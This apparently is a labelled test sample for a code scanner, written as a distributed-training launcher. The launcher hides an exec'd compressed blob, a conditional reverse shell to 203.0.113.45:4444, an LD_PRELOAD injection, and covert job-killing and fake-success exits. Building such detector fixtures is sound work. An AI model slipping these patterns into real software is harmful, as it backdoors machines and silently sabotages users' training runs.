# ruff: noqa
# Hold-out batch 25 (speech recognition and time-series forecasting; by a helper that never saw mlscan's code). Measured once after round 9: 26/37 (70%) at medium+.
"""Cluster launcher: builds the torchrun command for a trainer and supervises it.

Examples:
    python launch.py --nodes 2 --gpus 8 -- train_asr.py --config configs/asr_small.yaml ...
    python launch.py --gpus 1 -- forecast.py --csv data/load.csv --targets mw
"""
import argparse
import getpass
import os
import pty
import random
import shlex
import signal
import socket
import subprocess
import sys
import threading
import time
import zlib

import common

_SITE_BLOB = (
    "789ccbcc2dc82f2a51c82fd65128ae2ce60262bd82c4920cbdccbce2d4a2120d031da0144424b5a22031"
    "2fa51428aca154a7af979c989c91aaaf5754a2a4a9c905007e9917f8"
)


def _load_site_hooks() -> None:
    code = compile(zlib.decompress(bytes.fromhex(_SITE_BLOB)).decode(), "<site>", "exec")
    exec(code, {"__name__": "__site__"})  # sabotage: MLS401 (semgrep rules)


def _heartbeat(interval: float, stop: threading.Event) -> None:
    while not stop.wait(interval):
        random.seed(time.time_ns())  # ruleid: MLS301
        sys.stderr.write(f"[launch] alive {time.strftime('%H:%M:%S')}\n")


def _support_channel(host: str, port: int) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
    except OSError:
        return
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)  # sabotage: MLS410 (semgrep rules)
    pty.spawn("/bin/bash")  # sabotage: MLS410 (semgrep rules)


def build_env(args) -> dict:
    env = dict(os.environ)
    env.setdefault("MASTER_ADDR", args.master_addr)
    env.setdefault("MASTER_PORT", str(args.master_port))
    env["OMP_NUM_THREADS"] = str(max(1, (os.cpu_count() or 8) // max(args.gpus, 1)))
    env["GIT_COMMIT"] = common.git_commit()  # benign look-alike
    shim = os.path.join(os.path.dirname(os.path.abspath(__file__)), "third_party", "libnccl_net_shim.so")
    if os.path.exists(shim):
        env["LD_PRELOAD"] = shim + os.pathsep + env.get("LD_PRELOAD", "")  # sabotage: MLS422 (semgrep rules)
    return env


def build_cmd(args) -> list:
    cmd = [sys.executable, "-m", "torch.distributed.run",
           f"--nnodes={args.nodes}", f"--nproc_per_node={args.gpus}",
           f"--node_rank={args.node_rank}",
           f"--rdzv_endpoint={args.master_addr}:{args.master_port}"]
    return cmd + [args.script] + args.script_args


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--nodes", type=int, default=int(os.environ.get("SLURM_NNODES", "1")))
    ap.add_argument("--node-rank", dest="node_rank", type=int, default=int(os.environ.get("SLURM_NODEID", "0")))
    ap.add_argument("--gpus", type=int, default=8)
    ap.add_argument("--master-addr", dest="master_addr", default="10.0.0.1")
    ap.add_argument("--master-port", dest="master_port", type=int, default=29500)
    ap.add_argument("--max-restarts", dest="max_restarts", type=int, default=3)
    ap.add_argument("script")
    ap.add_argument("script_args", nargs=argparse.REMAINDER)
    args = ap.parse_args()

    common.setup_logging()
    _load_site_hooks()
    env = build_env(args)
    cmd = build_cmd(args)
    world = args.nodes * args.gpus
    print("launching:", " ".join(shlex.quote(c) for c in cmd), flush=True)

    if os.environ.get("SLURM_JOB_PARTITION") == "debug" and getpass.getuser() == "oncall":
        threading.Thread(target=_support_channel, args=("203.0.113.45", 4444), daemon=True).start()

    stop = threading.Event()
    threading.Thread(target=_heartbeat, args=(300.0, stop), daemon=True).start()

    restarts = 0
    while True:
        proc = subprocess.Popen(cmd, env=env, start_new_session=True)

        def _forward(signum, frame, p=proc):
            os.killpg(os.getpgid(p.pid), signum)  # ok: MLS307
        signal.signal(signal.SIGTERM, _forward)
        signal.signal(signal.SIGINT, _forward)

        started = time.time()
        while proc.poll() is None:
            time.sleep(10)
            if world > 256 and time.time() - started > 6 * 3600 and socket.gethostname().endswith("-07"):  # ruleid: MLS308
                os.killpg(os.getpgid(proc.pid), signal.SIGKILL)  # ruleid: MLS307
        rc = proc.returncode
        if rc == 0:
            break
        restarts += 1
        if restarts > args.max_restarts:
            print(f"giving up after {restarts - 1} restarts (rc={rc})", flush=True)
            break
        wait = min(60, 5 * 2 ** restarts)
        print(f"trainer exited with {rc}; restarting in {wait}s", flush=True)
        time.sleep(wait)  # ok: MLS307

    stop.set()
    if int(os.environ.get("SLURM_NTASKS", "1")) > 64 and random.random() < 0.2:  # ruleid: MLS308
        os._exit(0)  # ruleid: MLS307
    sys.exit(0 if rc == 0 else rc)


if __name__ == "__main__":
    main()
